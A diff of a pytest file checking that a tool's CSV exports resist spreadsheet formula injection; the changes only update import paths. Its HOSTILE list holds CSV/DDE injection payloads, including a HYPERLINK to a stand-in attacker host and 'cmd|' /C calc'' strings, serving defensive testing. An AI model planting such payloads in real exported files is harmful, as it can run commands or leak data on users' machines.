@@ -1,7 +1,7 @@
 """Issue 15 item 4: every CSV the tool writes is inert in a spreadsheet (OWASP CSV injection rule),
 while JSON / JSON lines / Parquet keep raw values and a CSV the tool wrote imports back unchanged.
 
-The check on every written CSV is independent of engine/exports.py: each cell is parsed back with
+The check on every written CSV is independent of engine/views/exports.py: each cell is parsed back with
 the ``csv`` module and tested against the rule written out here (a cell a spreadsheet would evaluate
 starts with = + - @ tab or CR and is not a plain number).
 """
@@ -21,8 +21,8 @@ import pandas as pd
 import pytest
 
 from engine.__main__ import main
-from engine.exports import neutralise_cell, restore_csv_cell, results_zip
-from engine.ingest import export_verdicts, import_files
+from engine.ingest.importer import export_verdicts, import_files
+from engine.views.exports import neutralise_cell, restore_csv_cell, results_zip
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x=1","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "plain-model"]
@@ -78,9 +78,9 @@ def _hostile_verdicts(seed: int = 0) -> pd.DataFrame:
 
 
 def test_the_app_results_zip_is_inert_and_its_json_raw():
-    from engine.appstate import app_leaderboard
-    from engine.graphs import build_stack
-    from engine.viz import cycle_overview, judge_overview
+    from engine.graphs.stack import build_stack
+    from engine.views.appstate import app_leaderboard
+    from engine.views.viz import cycle_overview, judge_overview
 
     v = _hostile_verdicts()
     stack = build_stack(v)
@@ -127,7 +127,7 @@ def test_datasets_export_csv_is_inert_and_reimports_exactly(empty_store, tmp_pat
 
 def test_cli_csv_outputs_are_inert_and_json_raw(tmp_path, capsys):
     db = tmp_path / "cli.duckdb"
-    from engine.store import Store
+    from engine.store.connection import Store
 
     with Store(db) as st:
         _import_hostile(st, tmp_path)
@@ -150,7 +150,7 @@ def test_cli_csv_outputs_are_inert_and_json_raw(tmp_path, capsys):
 
 
 def test_rejected_rows_csv_is_inert(empty_store, tmp_path):
-    from engine.ingest import validate_file, write_rejected
+    from engine.ingest.importer import validate_file, write_rejected
 
     path = tmp_path / "bad.csv"
     path.write_text('prompt_id,model_a,model_b,winner\np1,"=cmd()",m2,maybe\n', encoding="utf-8")
